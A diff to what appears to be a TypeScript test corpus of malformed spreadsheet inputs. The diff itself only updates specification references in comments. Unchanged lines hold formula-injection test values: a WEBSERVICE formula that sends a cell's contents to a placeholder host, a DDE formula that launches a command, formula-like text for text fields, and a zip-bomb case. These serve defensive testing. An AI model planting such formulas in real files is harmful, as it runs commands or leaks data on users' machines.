@@ -1,5 +1,5 @@
-// The bad-input corpus (SPEC 10, issue 5): each case builds its file from code and states the
-// outcome it must have, read alone and in one merge with every other case.
+// The bad-input corpus (docs/limits.md, issue 5): each case builds its file from code and states
+// the outcome it must have, read alone and in one merge with every other case.
 import { strToU8, unzipSync } from "fflate";
 import { DEFAULT_CONFIG } from "../../src/core/config";
 import type { IssueCode } from "../../src/core/issues/codes";
@@ -163,7 +163,7 @@ const HOUSEHOLDS_ROW1 = (field: string) => cellOf("households", field, 0);
 const FORMULA_WEBSERVICE = 'WEBSERVICE("http://example.invalid/?q="&A1)';
 const FORMULA_DDE = "cmd|' /C calc'!A0";
 
-/** Formula-like text typed into text fields (SPEC 10), and what the reader hands on. */
+/** Formula-like text typed into text fields (docs/limits.md), and what the reader hands on. */
 export const FORMULA_LIKE_TEXT = {
   note: "=1+1",
   funder: "\t=SUM(1,2)",
@@ -287,7 +287,7 @@ export const CASES: readonly CorpusCase[] = [
     expect: { unreadable: "encrypted" },
   },
 
-  // Zip limits (SPEC 10), judged from the directory before anything is expanded.
+  // Zip limits (docs/limits.md), judged from the directory before anything is expanded.
   {
     name: "bomb-declared-sheet",
     about: "a sheet whose directory entry declares 600 MB expanded",
